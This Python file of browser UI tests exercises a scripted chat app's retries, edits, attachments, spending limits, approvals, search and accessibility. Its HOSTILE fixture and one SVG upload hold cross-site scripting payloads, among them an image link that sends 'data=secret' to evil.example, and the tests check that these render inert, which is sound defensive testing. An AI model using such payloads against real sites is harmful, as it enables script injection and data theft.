"""What people do in a chat, in a real browser on a real server."""

from __future__ import annotations

import base64
import json
import re
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import FilePayload, Locator, Page, expect

from tests.ui.browser import Server, Tab, browsing, serving, tab

pytestmark = pytest.mark.timeout(300)

REFUSED = ("net::ERR_", "the server responded with a status of 503")
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
HOSTILE = (
    """# <script>alert(1)</script>

<img src=x onerror=alert(2)><iframe src="//evil.example"></iframe> ![stolen](https://evil.example/?data=secret)
[run](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>) [bank](https://bank.example@evil.example/)
<https://evil.example/beacon> [ok](https://dams.example/list) a\u202eb

| <svg onload=alert(5)> | [x](vbscript:x) |
|---|---|
| ![a](//evil.example/a.png) | <style>*{display:none}</style> |

```html" onload="alert(6)
</code></pre><script>alert(7)</script> """
    + "long " * 400
    + """
```
"""
)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server without tokens, with a graph whose model follows a script and calls tools."""
    with serving(tmp_path_factory.mktemp("chat")) as server:
        save_graph(server, "guide", [tool("remember", key="dam", value="Hoover"), tool("recall", wrong=1), HOSTILE])
        yield server


def api(server: Server, path: str, body: Any = None, method: str | None = None) -> Any:
    """Request the API directly, for what the UI is compared with."""
    data = None if body is None else json.dumps(body).encode()
    request = urllib.request.Request(server.url + path, data, {"Content-Type": "application/json"}, method=method)
    with urllib.request.urlopen(request) as response:
        return json.loads(response.read() or b"null")


def tool(name: str, **arguments: Any) -> dict[str, Any]:
    return {"tool": name, "arguments": arguments}


def save_graph(server: Server, graph_id: str, script: list[Any]) -> None:
    """Save an agent with notes, which answers by a script."""
    nodes = [
        {"id": "start", "type": "chat-start", "data": {}},
        {"id": "guide", "type": "agent", "data": {"model": {"script": script}, "stream": True}},
        {"id": "notes", "type": "memory", "data": {}},
    ]
    edges = [
        {"id": "e1", "source": "start", "target": "guide", "data": {"channel": "flow"}},
        {
            "id": "e2", "source": "notes", "sourceHandle": "tools", "target": "guide", "targetHandle": "tools",
            "data": {"channel": "link"},
        },
    ]  # fmt: skip
    document = {"nodes": nodes, "edges": edges}
    api(server, f"/api/graphs/{graph_id}", {"name": graph_id, "document": document}, "PUT")


def composer(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Message", exact=True)


def answers(page: Page) -> Locator:
    return page.get_by_role("article", name="Answer of")


def questions(page: Page) -> Locator:
    return page.get_by_role("article", name="You")


async def begin(page: Page, server: Server, graph: str, text: str) -> str:
    """Begin a chat by its form; returns its id."""
    await page.goto(f"{server.url}/#/chat")
    await page.get_by_role("radio", name=graph).check()
    await composer(page).fill(text)
    await composer(page).press("Enter")
    await page.wait_for_url("**/#/chat/*")
    return page.url.rpartition("/")[2]


async def finished(answer: Locator) -> None:
    await expect(answer.get_by_role("button", name="Retry")).to_be_visible()


async def test_siblings_are_where_they_were_after_a_reload(server: Server) -> None:
    async with browsing() as browser, tab(browser) as opened:
        page = opened.page
        chat = await begin(page, server, "assistant", "count to 3")
        await finished(answers(page).first)
        await answers(page).get_by_role("button", name="Retry").click()
        await expect(answers(page)).to_contain_text("2/2")
        await finished(answers(page).first)
        await answers(page).get_by_role("button", name="Retry").focus()
        await page.keyboard.press("r")  # the key of the focused message does what the button does
        await expect(answers(page)).to_contain_text("3/3")
        await finished(answers(page).first)
        await answers(page).get_by_role("button", name="Previous version").click()
        await expect(answers(page)).to_contain_text("2/3")
        await expect(answers(page).get_by_role("button", name="Previous version")).to_be_focused()
        await page.reload()
        await expect(answers(page)).to_contain_text("2/3")

        await questions(page).get_by_role("button", name="Edit").click()
        await page.get_by_label("Edit your message").fill("count to 4")
        await page.keyboard.press("Enter")
        await expect(questions(page)).to_contain_text("2/2")
        await expect(answers(page)).to_contain_text("1, 2, 3, 4.")
        await finished(answers(page).first)
        await questions(page).first.focus()
        await page.keyboard.press("[")
        await expect(questions(page)).to_contain_text("1/2")
        await expect(answers(page)).to_contain_text("2/3")
        await page.reload()
        await expect(questions(page)).to_contain_text("1/2")
        await expect(answers(page)).to_contain_text("2/3")
        assert len(api(server, f"/api/chats/{chat}")["messages"]) == 6


async def test_an_answer_is_stopped_and_continued_and_its_run_is_one_click_away(server: Server) -> None:
    async with browsing() as browser, tab(browser) as opened:
        page = opened.page
        chat = await begin(page, server, "assistant", "count to 60")
        await expect(answers(page)).to_contain_text("1, 2, 3,")
        await expect(answers(page).get_by_text(re.compile(r"\$0\.\d+ held"))).to_be_visible()  # what it may cost yet
        await page.get_by_role("button", name="Stop").click()
        await expect(answers(page)).to_contain_text("Stopped before it was finished.")
        await answers(page).get_by_role("button", name="Continue").click()
        await expect(answers(page)).to_have_count(2)
        await expect(answers(page).last).to_contain_text("59, 60.")
        await finished(answers(page).last)
        first, second = api(server, f"/api/chats/{chat}")["messages"][1:]
        assert (first["data"]["state"], second["data"]["state"]) == ("partial", "complete")
        run = api(server, f"/api/runs/{second['data']['run_id']}")
        exact = f"${run['cost_nanos'] / 1e9:.9f}".rstrip("0")
        await expect(answers(page).last.get_by_title(exact)).to_be_visible()
        await answers(page).last.get_by_role("link", name="Run").click()
        await expect(page.get_by_role("status").filter(has_text="The run is completed")).to_be_attached()


async def test_attachments_are_sent_limits_hold_and_changes_elsewhere_are_shown(server: Server) -> None:
    async with browsing() as browser, tab(browser) as opened:
        page = opened.page
        await page.goto(f"{server.url}/#/chat")
        files: list[FilePayload] = [
            {"name": "dam.png", "mimeType": "image/png", "buffer": PIXEL},
            {"name": "flow.svg", "mimeType": "image/svg+xml", "buffer": b"<svg onload='alert(1)'/>"},
        ]
        await page.get_by_label("Files to attach").set_input_files(files)
        await expect(page.get_by_role("button", name="Remove flow.svg")).to_be_visible()
        await page.get_by_label("Files to attach").set_input_files(
            [{"name": "a.exe", "mimeType": "application/x-msdownload", "buffer": b"MZ"}]
        )
        await expect(page.get_by_role("alert")).to_contain_text("a.exe: only pictures")
        await page.reload()  # a message that was not sent is kept
        await expect(page.get_by_role("button", name="Remove dam.png")).to_be_visible()
        await composer(page).fill("count to 3")
        await composer(page).press("Enter")
        await expect(questions(page).get_by_role("img", name="dam.png")).to_be_visible()
        await expect(questions(page).get_by_role("button", name="flow.svg")).to_be_visible()
        await finished(answers(page).first)

        await page.get_by_role("button", name="Limits").click()
        await page.get_by_label("Money, US dollars").fill("0.00002")
        await composer(page).fill("count to 500")
        await composer(page).press("Enter")
        await expect(answers(page).last).to_contain_text("Stopped by a limit.")
        await page.reload()
        await expect(page.get_by_role("button", name="Limit: $0.00002 an answer")).to_be_visible()

        chat = page.url.rpartition("/")[2]
        api(server, f"/api/chats/{chat}/messages", {"content": "Sent from another tab."})
        await page.get_by_role("button", name="Show it as it is now").click()
        await expect(questions(page).last).to_contain_text("Sent from another tab.")


async def test_an_approval_is_answered_in_the_chat(server: Server) -> None:
    async with browsing() as browser, tab(browser) as opened:
        page = opened.page
        await begin(page, server, "publish", "count to 3")
        await expect(page.get_by_role("heading", name="Publish this?")).to_be_visible()
        await opened.check_accessibility()
        await page.reload()
        await page.get_by_role("region", name="Approval").get_by_role("button", name="Edit").click()
        await page.get_by_label("Go on with this instead").fill("four, five")
        await page.get_by_role("button", name="Approve with this change").click()
        await expect(answers(page)).to_contain_text("Published: four, five")
        await finished(answers(page).first)


async def test_hostile_text_is_shown_and_neither_executes_nor_fetches(server: Server) -> None:
    async with browsing() as browser, tab(browser) as opened:
        page = opened.page
        outside: list[str] = []
        page.on("dialog", lambda dialog: outside.append(dialog.message))
        page.on("request", lambda request: None if is_own(server, request.url) else outside.append(request.url))
        await begin(page, server, "guide", HOSTILE)
        await finished(answers(page).first)
        answer = answers(page).first
        await expect(answer).to_contain_text("<script>alert(1)</script>")
        await expect(answer).to_contain_text("<img src=x onerror=alert(2)>")
        await expect(answer).to_contain_text("a⟨U+202E⟩b")
        links = answer.locator(".markdown a")
        shown = await links.evaluate_all("all => all.map(one => [one.getAttribute('href'), one.rel])")
        safe = ["https://evil.example/?data=secret", "https://evil.example/beacon", "https://dams.example/list"]
        assert shown == [[href, "noopener noreferrer"] for href in safe]
        assert await page.locator("main").locator("img, script, iframe, svg, style").count() == 0
        code = answer.locator(".code pre")
        assert await code.evaluate("one => one.scrollWidth > one.clientWidth")
        assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert outside == []

        cards = answer.get_by_role("list", name="Tools").get_by_role("listitem")
        await expect(cards).to_have_count(2)
        await expect(cards.first).to_contain_text("remember")
        await expect(cards.last).to_contain_text("failed")
        await cards.last.locator("summary").click()
        await expect(cards.last).to_contain_text("arguments of recall are invalid")


def is_own(server: Server, url: str) -> bool:
    return url.startswith((server.url, f"blob:{server.url}"))


async def test_chats_are_searched_renamed_and_deleted_and_survive_their_graph(server: Server) -> None:
    save_graph(server, "leaving", ["A quince is a fruit."])
    chat = api(server, "/api/agents/leaving/chat", {"content": "What is it?"})["chat_id"]
    api(server, "/api/agents/assistant/chat", {"content": "count to 2"})
    async with browsing() as browser, tab(browser) as opened:
        page = opened.page
        await page.goto(f"{server.url}/#/chat")
        listed = page.get_by_role("navigation", name="Chats").get_by_role("listitem")
        await page.get_by_role("heading", name="New chat").click()
        await page.keyboard.press("/")
        await page.keyboard.type("quince")
        await expect(listed).to_have_count(1)
        await expect(listed).to_contain_text("A quince is a fruit.")
        await page.get_by_role("searchbox").fill("no such words")
        await expect(page.get_by_text("No chat has this in its title or messages.")).to_be_visible()
        await page.get_by_role("searchbox").fill("quince")
        await listed.get_by_role("link").click()
        await expect(answers(page)).to_contain_text("A quince is a fruit.")
        await page.get_by_role("button", name="Rename").click()
        await page.get_by_label("Title").fill("Fruit")
        await page.get_by_role("dialog").get_by_role("button", name="Rename").click()
        await expect(page.get_by_role("heading", name="Fruit", level=1)).to_be_visible()
        await expect(listed).to_contain_text("Fruit")

        api(server, "/api/graphs/leaving", method="DELETE")
        await page.reload()
        await expect(page.get_by_text("cannot answer any more")).to_be_visible()
        await expect(answers(page)).to_contain_text("A quince is a fruit.")
        await expect(composer(page)).to_have_count(0)
        await page.get_by_role("button", name="Delete").click()
        await page.get_by_role("button", name="Delete the chat").click()
        await expect(page.get_by_role("heading", name="New chat")).to_be_visible()
        assert chat not in [one["id"] for one in api(server, "/api/chats")["chats"]]


async def test_the_chat_meets_wcag_in_both_themes(server: Server) -> None:
    chat = api(server, "/api/agents/guide/chat", {"content": "Tell me of dams."})["chat_id"]
    async with browsing() as browser, tab(browser, expected=("status of 404",)) as opened:
        page = opened.page
        await page.goto(f"{server.url}/#/chat")
        await expect(page.get_by_role("radio", name="guide")).to_be_visible()
        await page.get_by_role("button", name="Limits").click()
        await check_both_themes(opened)
        await page.goto(f"{server.url}/#/chat/{chat}")
        await finished(answers(page).first)
        await answers(page).locator("summary").last.click()
        await check_both_themes(opened)
        await questions(page).get_by_role("button", name="Edit").click()
        await opened.check_accessibility()
        await page.keyboard.press("Escape")
        await page.get_by_role("heading", level=1).click()
        await page.keyboard.press("?")
        await expect(page.get_by_role("dialog")).to_be_visible()
        await opened.check_accessibility()
        await page.goto(f"{server.url}/#/chat/nothing")
        await expect(page.get_by_role("heading", name="There is no such chat")).to_be_visible()
        await opened.check_accessibility()


async def check_both_themes(opened: Tab) -> None:
    # Without motion: a colour on its way from one theme to the other is none of either.
    for theme in ("dark", "light"):
        await opened.page.emulate_media(color_scheme=theme, reduced_motion="reduce")
        await opened.check_accessibility()


async def test_an_answer_goes_on_after_the_server_was_killed(tmp_path: Path) -> None:
    # A short lease: the server that starts after the kill takes up the run of the one before soon.
    with serving(tmp_path, options=("--lease", "5")) as server:
        async with browsing() as browser, tab(browser, expected=REFUSED) as opened:
            page = opened.page
            await begin(page, server, "assistant", "count to 50")
            await expect(answers(page)).to_contain_text("1, 2, 3,")
            server.kill()
            await expect(answers(page)).to_contain_text("Not connected")
            await expect(answers(page)).to_contain_text("1, 2, 3,")
            await composer(page).fill("What I write meanwhile stays.")
            server.start()
            await expect(answers(page)).to_contain_text("49, 50.")
            await finished(answers(page).first)
            await expect(composer(page)).to_have_value("What I write meanwhile stays.")
